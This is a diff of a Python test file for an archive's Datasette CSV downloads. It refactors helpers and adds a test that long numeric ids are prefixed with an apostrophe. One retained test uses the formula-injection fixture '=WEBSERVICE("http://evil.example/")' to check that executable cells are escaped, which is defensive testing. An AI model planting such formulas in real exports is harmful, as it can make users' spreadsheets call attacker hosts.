@@ -12,6 +12,7 @@ import json
 import re
 import shutil
 import sqlite3
+from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -685,21 +686,44 @@ def test_the_posts_with_a_label_query_folds_case_as_the_search_does(web: Client)
 def test_datasette_csv_downloads_write_formulas_as_text(tmp_path: Path) -> None:
     """A table's CSV, every row streamed, and an SQL query's CSV: a cell a spreadsheet would
     run starts with ', as in goahead export; JSON and the debug view are as they were."""
-    path = tmp_path / "archive.db"
-    db = open_archive(path)
     title = '=WEBSERVICE("http://evil.example/")'
-    upsert_post(db, Post(**{**cloth_post(2).__dict__, "title": title, "author": "@me"}))
-    db.close()
-    web = Client(path, tmp_path / "warcs")
-    for path, params in (("/archive/posts.csv", {}),
-                         ("/archive/posts.csv", {"_stream": "on", "_dl": "1"}),
-                         ("/archive.csv", {"sql": "select title, author from posts"})):
-        answer = web.get(path, **params)
-        assert answer.status_code == 200, (path, params)
-        row = next(csv.DictReader(io.StringIO(answer.text)))
-        assert (row["title"], row["author"]) == ("'" + title, "'@me"), (path, params)
+    web = Client(one_post_archive(tmp_path, title=title, author="@me"), tmp_path / "warcs")
+    for where, row in first_csv_rows(web, "select title, author from posts"):
+        assert (row["title"], row["author"]) == ("'" + title, "'@me"), where
     assert web.json("/archive/posts.json", _shape="array")[0]["title"] == title
     assert "=WEBSERVICE(" in web.get("/archive/posts.csv", _trace="1").text
+
+
+def test_datasette_csv_downloads_keep_every_digit_of_the_ids(tmp_path: Path) -> None:
+    """The posts table's CSV wrote the 19-digit post and blog ids bare: a spreadsheet
+    keeps 15 digits of a number, and the ids named no post (LibreOffice showed
+    9.02173554816009E+018). They start with ' now, as in goahead export; JSON is raw."""
+    blog_id, post_id = "7183947562016475920", "9021735548160093372"  # Blogger's: 19 digits
+    web = Client(one_post_archive(tmp_path, blog_id=blog_id, post_id=post_id),
+                 tmp_path / "warcs")
+    for where, row in first_csv_rows(web, "select post_id, blog_id, id from posts"):
+        assert (row["post_id"], row["blog_id"]) == ("'" + post_id, "'" + blog_id), where
+        assert row.get("id", "1").isdigit()  # a short number is as it was
+    assert web.json("/archive/posts.json", _shape="array")[0]["post_id"] == post_id
+
+
+def one_post_archive(tmp_path: Path, **fields: str) -> Path:
+    """An archive of one post, :func:`cloth_post` with ``fields`` changed."""
+    path = tmp_path / "archive.db"
+    db = open_archive(path)
+    upsert_post(db, Post(**{**cloth_post(2).__dict__, **fields}))
+    db.close()
+    return path
+
+
+def first_csv_rows(web: Client, sql: str) -> Iterator[tuple[Any, dict[str, str]]]:
+    """The first row of each CSV download: the table's, every row streamed, ``sql``'s."""
+    for path, params in (("/archive/posts.csv", {}),
+                         ("/archive/posts.csv", {"_stream": "on", "_dl": "1"}),
+                         ("/archive.csv", {"sql": sql})):
+        answer = web.get(path, **params)
+        assert answer.status_code == 200, (path, params)
+        yield (path, params), next(csv.DictReader(io.StringIO(answer.text)))
 
 
 def test_where_the_csv_links_are_the_spreadsheet_cell_limit_is_said(web: Client) -> None:
